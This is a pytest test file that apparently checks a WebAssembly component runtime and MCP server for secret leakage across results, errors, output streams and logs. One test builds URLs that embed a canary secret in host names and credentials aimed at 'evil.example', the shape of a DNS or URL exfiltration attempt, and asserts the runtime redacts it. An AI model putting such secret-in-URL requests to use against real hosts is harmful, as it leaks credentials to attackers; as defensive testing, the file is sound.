"""The leak suite end to end: the leaker component through the real ComponentManager and
through `wassette serve --stdio` with the official MCP client, the server's log included; and
a secret used as a host name, through the http-fetcher component.

The per-byte cut sweep runs in tests/runtime/test_leaks.py (one process, thousands of calls);
here every form goes through each channel of the real server once, with cuts at the first,
middle and last byte of the encoded secret.
"""

from __future__ import annotations

import json
import logging
from collections.abc import Callable
from pathlib import Path
from typing import Any

import anyio
import pytest

from tests.componentbuild import install_component
from tests.conftest import Home, run_cli
from tests.e2e.flows import text
from tests.e2e.mcpserver import stdio_client
from tests.runtime.test_leaks import FORMS, SECRETS, survivors
from wassette.errors import ComponentError
from wassette.manager import ComponentManager
from wassette.policy.store import PolicyStore
from wassette.secretstore.store import SecretStore

Factory = Callable[..., ComponentManager]
HOST_SECRET = "Hostile9Secret"  # noqa: S105 - a canary; mixed case: host names are lowercased on their way out


def _all_survivors(blob: str) -> list[tuple[str, str]]:
    """Any form of any secret in a mixed blob (a log, many results). Windows of 8 characters:
    shorter ones (escapes, digit runs) also occur in unrelated text of such a blob."""
    return [
        (key, form)
        for key, value in SECRETS.items()
        for form in FORMS
        if survivors(blob, form, value, k=8)
    ]


def _check_report(structured: dict[str, Any], key: str) -> None:
    report = structured["result"]
    value = SECRETS[key]
    assert bytes(report["raw"]).decode() == f"[REDACTED:{key}]"
    assert not survivors(report["note"], "json", value)
    for form, got in zip(FORMS, report["forms"], strict=True):
        assert not survivors(got, form, value), (key, form)


def leaves(data: Any) -> list[str]:
    """The strings of a JSON value (its text re-escapes them, which would fake windows)."""
    if isinstance(data, str):
        return [data]
    if isinstance(data, dict):
        return [s for k, v in data.items() for s in (str(k), *leaves(v))]
    if isinstance(data, list):
        return [s for v in data for s in leaves(v)]
    return []


def value_free(blob: str, key: str) -> bool:
    value = SECRETS[key]
    return value not in blob and value.lower() not in blob.lower()


@pytest.fixture
def manager(tmp_path: Path) -> ComponentManager:
    m = ComponentManager(
        tmp_path / "components", SecretStore(tmp_path / "secrets"), inherited_env={}
    )
    install_component("leaker", m.component_dir)
    store = PolicyStore(m.component_dir)
    for key in SECRETS:
        store.grant_environment_variable("leaker", key)
    m.secrets.set_many("leaker", dict(SECRETS))
    return m


def test_every_form_on_every_channel_through_the_manager(
    manager: ComponentManager, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG, logger="wassette")
    cases = 0
    for key in SECRETS:
        for form in FORMS:
            enc_len = len(FORMS[form](SECRETS[key]).encode("utf-8", "surrogatepass"))
            for channel, offset in [("result", 0), ("error", 0), ("trap", 0)] + [
                (stream, at)
                for stream in ("stdout", "stderr")
                for at in (0, enc_len // 2, enc_len - 1)
            ]:
                args = {"key": key, "form": form, "channel": channel, "offset": offset}
                try:
                    res = manager.call_tool("leak", args)
                    assert value_free(res.text, key)
                    blob = "\0".join([*leaves(res.structured), res.stdout, res.stderr])
                except ComponentError as exc:
                    blob = " ".join(
                        [str(exc), exc.why or "", exc.fix or "", getattr(exc, "stderr_tail", "")]
                    )
                assert not survivors(blob, form, SECRETS[key]), (key, form, channel, offset)
                cases += 1
        report = manager.call_tool("leak-report", {"key": key})
        assert report.structured is not None
        _check_report(report.structured, key)
        assert value_free(report.text, key)
        cases += 1
    assert not _all_survivors(caplog.text)
    assert cases == len(SECRETS) * (len(FORMS) * 9 + 1)


def test_every_form_through_the_mcp_server_and_its_log(home: Home) -> None:
    install_component("leaker", home.plugin_dir)
    for key, value in SECRETS.items():
        run_cli(home, "permission", "grant", "environment-variable", "leaker", key, check=True)
        run_cli(home, "secret", "set", "leaker", f"{key}={value}", check=True)
    log = home.root / "server.log"
    seen: list[str] = []

    async def go() -> None:
        async with stdio_client(home, log=log, mode="auto") as c:
            for key in SECRETS:
                for form in FORMS:
                    enc_len = len(FORMS[form](SECRETS[key]).encode("utf-8", "surrogatepass"))
                    for channel, offset in (
                        ("result", 0),
                        ("error", 0),
                        ("trap", 0),
                        ("stderr", enc_len // 2),
                    ):
                        args: dict[str, Any] = {
                            "key": key,
                            "form": form,
                            "channel": channel,
                            "offset": offset,
                        }
                        res = await c.call_tool("leak", args)
                        assert value_free(text(res), key)
                        blob = (
                            text(res) if res.is_error else "\0".join(leaves(res.structured_content))
                        )
                        assert not survivors(blob, form, SECRETS[key]), (key, form, channel)
                        seen.append(blob)
                report = await c.call_tool("leak-report", {"key": key})
                assert report.structured_content is not None
                _check_report(report.structured_content, key)
                assert value_free(text(report), key)

    anyio.run(go)
    assert len(seen) == len(SECRETS) * len(FORMS) * 4
    assert not _all_survivors("\n".join(seen))
    assert not _all_survivors(log.read_text())


def test_a_secret_used_as_a_host_name_is_never_echoed(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG, logger="wassette")
    m = ComponentManager(
        tmp_path / "components", SecretStore(tmp_path / "secrets"), inherited_env={}
    )
    install_component("http-fetcher", m.component_dir)
    store = PolicyStore(m.component_dir)
    store.grant_environment_variable("http-fetcher", "TOKEN")
    m.secrets.set_many("http-fetcher", {"TOKEN": HOST_SECRET})
    for url in (
        f"https://{HOST_SECRET}.evil.example/x",
        f"http://api.{HOST_SECRET.lower()}.example:8080/",
        f"https://user:{HOST_SECRET}@evil.example/",
    ):
        res = m.call_tool("fetch", {"url": url})
        blob = res.text + json.dumps(res.structured) + res.stdout + res.stderr
        assert HOST_SECRET.lower() not in blob.lower(), blob
    logged = caplog.text.lower()
    assert HOST_SECRET.lower() not in logged
    assert "permission grant network http-fetcher [redacted" not in logged


def test_denied_hosts_never_become_a_grant_suggestion() -> None:
    from wassette.runtime.http_policy import DeniedRequest
    from wassette.runtime.invoke import network_fix_hint

    denied = [
        DeniedRequest("https", "[REDACTED:T].evil.example", 443, "GET", True),
        DeniedRequest("https", "api.example.com", 443, "GET"),
    ]
    hint = network_fix_hint("c", denied)
    assert "api.example.com" in hint and "REDACTED" not in hint
    assert network_fix_hint("c", denied[:1]) == ""
